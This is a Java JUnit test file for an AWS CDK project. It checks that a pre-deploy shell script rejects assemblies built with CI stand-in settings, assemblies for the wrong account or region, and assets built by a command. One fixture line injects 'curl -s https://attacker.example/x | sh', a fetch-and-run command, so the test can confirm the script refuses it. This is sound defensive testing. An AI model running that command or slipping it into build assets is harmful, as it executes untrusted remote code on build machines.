package com.acme.fulfil.infra;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.File;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import software.amazon.awscdk.App;
import software.amazon.awscdk.FileAssetSource;

/**
 * What may be deployed, and where: the stack's environment is the account and region infra/cdk.json commits;
 * CI's stand-in settings are refused by any synth but CI's, whose assembly is marked; and
 * infra/deployable-assembly.sh, which the deploy workflow runs before {@code cdk deploy} with the caller's account,
 * refuses a marked assembly, one for another account or region, and one that declares an asset built by a command.
 */
class DeployableAssemblyTest {
  private static final Path CHECK = Path.of("deployable-assembly.sh");
  /** Settings a team could commit: none of them a stand-in. */
  private static final String ACCOUNT = "210987654321";
  private static final String REGION = "eu-central-1";
  private static final Map<String, String> REAL = Map.of(DeploymentSettings.AWS_ACCOUNT, ACCOUNT,
      DeploymentSettings.AWS_REGION, REGION, "partnerBaseUrl", "https://api.fulfilment-partner.co.uk",
      "alarmEmail", "oncall@acme-retail.co.uk",
      "partnerApiKeySecretArn", "arn:aws:secretsmanager:eu-central-1:" + ACCOUNT + ":secret:fulfil-order/partner-api-key-Zx9Y8w",
      StandInSettings.CI_SYNTH_ONLY, "false");

  /** jq reads the assembly, as on GitHub's runners; without it the check cannot run here, and the test says so. */
  @BeforeAll
  static void needsJq() {
    boolean jq = Stream.of(System.getenv().getOrDefault("PATH", "").split(File.pathSeparator))
        .anyMatch(directory -> Files.isExecutable(Path.of(directory, "jq")));
    if (!jq) {
      System.err.println("WARNING: infra/deployable-assembly.sh NOT tested: jq is not on the PATH");
    }
    Assumptions.assumeTrue(jq, "jq is not on the PATH");
  }

  @Test
  void theStackDeploysToTheCommittedAccountAndRegionOnly() throws Exception {
    FulfilOrderStack stack = Synth.stack(REAL);
    assertThat(stack.getAccount()).isEqualTo(ACCOUNT);
    assertThat(stack.getRegion()).isEqualTo(REGION);
    Path assembly = synthesize(stack);

    assertThat(check(assembly, ACCOUNT, REGION)).startsWith("0:").contains("deployable to aws://" + ACCOUNT + "/" + REGION);
    assertThat(check(assembly, "111122223333", REGION)).startsWith("1:")
        .contains("fulfil-order is for aws://" + ACCOUNT + "/" + REGION + ", and these credentials are for account 111122223333");
    assertThat(check(assembly, ACCOUNT, "us-east-1")).startsWith("1:").contains("in us-east-1");
  }

  @Test
  void anAssetBuiltByACommandIsRefused() throws Exception {
    FulfilOrderStack stack = Synth.stack(REAL);
    stack.getSynthesizer().addFileAsset(FileAssetSource.builder().sourceHash("0badc0de")
        .executable(List.of("sh", "-c", "curl -s https://attacker.example/x | sh")).build());

    assertThat(check(synthesize(stack), ACCOUNT, REGION)).startsWith("1:")
        .contains("declares an asset built by a command (0badc0de: sh -c curl -s https://attacker.example/x | sh)");
  }

  /** CI's synth is allowed its stand-ins, and the deploy workflow's check refuses what it made. */
  @Test
  void anAssemblyOfCisStandInsIsRefused() throws Exception {
    Path assembly = synthesize(Synth.stack(Map.of()));

    assertThat(check(assembly, Synth.AWS_ACCOUNT, Synth.AWS_REGION)).startsWith("1:")
        .contains("fulfil-order was synthesized by CI with stand-in settings");
  }

  /** Any synth but CI's refuses every stand-in, naming it; so does the committed file, which commits no flag. */
  @Test
  void synthRefusesStandInsUnlessItIsCisSynth() throws Exception {
    String refusal = Synth.refusal(Map.of(StandInSettings.CI_SYNTH_ONLY, "false"));
    assertThat(refusal).contains("awsAccount is 123456789012, AWS's documentation account: a stand-in")
        .contains("partnerApiKeySecretArn is " + Synth.PARTNER_API_KEY_SECRET_ARN + ", in AWS's documentation account")
        .contains("partnerBaseUrl is " + Synth.PARTNER_BASE_URL + ", a name reserved for examples")
        .contains("alarmEmail is " + Synth.ALARM_EMAIL + ", at a name reserved for examples");
    assertThat(Synth.cdkJsonContext()).containsKeys(DeploymentSettings.AWS_ACCOUNT, DeploymentSettings.AWS_REGION)
        .doesNotContainKey(StandInSettings.CI_SYNTH_ONLY);
    assertThat(Files.readString(Path.of("../.github/workflows/deploy.yml"))).doesNotContain(StandInSettings.CI_SYNTH_ONLY)
        .contains("infra/deployable-assembly.sh infra/cdk.out \"$(aws sts get-caller-identity --query Account --output text)\"");
  }

  private static Path synthesize(FulfilOrderStack stack) {
    return Path.of(((App) stack.getNode().getRoot()).synth().getDirectory());
  }

  /** The check's exit status and what it printed, as "STATUS: OUTPUT". */
  private static String check(Path assembly, String account, String region) throws IOException, InterruptedException {
    Process check = new ProcessBuilder("bash", CHECK.toString(), assembly.toString(), account, region)
        .redirectErrorStream(true).start();
    String output = new String(check.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    assertThat(check.waitFor(60, TimeUnit.SECONDS)).isTrue();
    return check.exitValue() + ": " + output;
  }
}
